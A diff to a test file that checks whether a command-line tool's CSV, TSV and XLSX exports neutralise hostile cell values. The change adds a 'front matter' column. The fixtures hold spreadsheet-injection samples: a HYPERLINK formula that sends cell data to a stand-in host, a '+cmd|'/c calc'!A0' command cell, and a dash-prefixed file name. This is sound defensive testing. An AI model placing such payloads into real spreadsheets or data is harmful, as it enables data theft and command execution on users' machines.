@@ -130,7 +130,7 @@ def test_hostile_metadata_and_file_names_are_neutralized_in_csv(hostile):
 
 def test_raw_keeps_the_text_as_it_is(hostile):
     result = invoke("count", "--what", "documents", "-f", "tsv", "-q", "--raw", "--", "-evil.txt")
-    assert result.stdout.splitlines()[1] == "-evil.txt\t\"=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"点击\"\")\"\t\t\t+cmd|'/c calc'!A0\t13\t3"
+    assert result.stdout.splitlines()[1] == "-evil.txt\t\"=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"点击\"\")\"\tfront matter\t\t\t\t+cmd|'/c calc'!A0\t13\t3"
 
 
 def test_hostile_cells_are_neutralized_in_xlsx_unless_raw(hostile):
@@ -138,7 +138,7 @@ def test_hostile_cells_are_neutralized_in_xlsx_unless_raw(hostile):
     assert result.exit_code == 0, result.stderr
     documents = openpyxl.load_workbook("safe.xlsx")["documents"]
     assert [cell.value for cell in documents[2]] == [
-        "'-evil.txt", '\'=HYPERLINK("http://x.example/?"&A1,"点击")', None, None, "'+cmd|'/c calc'!A0", 13, 3,
+        "'-evil.txt", '\'=HYPERLINK("http://x.example/?"&A1,"点击")', "front matter", None, None, None, "'+cmd|'/c calc'!A0", 13, 3,
     ]
     assert openpyxl.load_workbook("safe.xlsx")["frequencies"]["A2"].value == "'-evil.txt"
     invoke("count", "--what", "documents", "-o", "raw.xlsx", "-q", "--raw", "--", "-evil.txt")
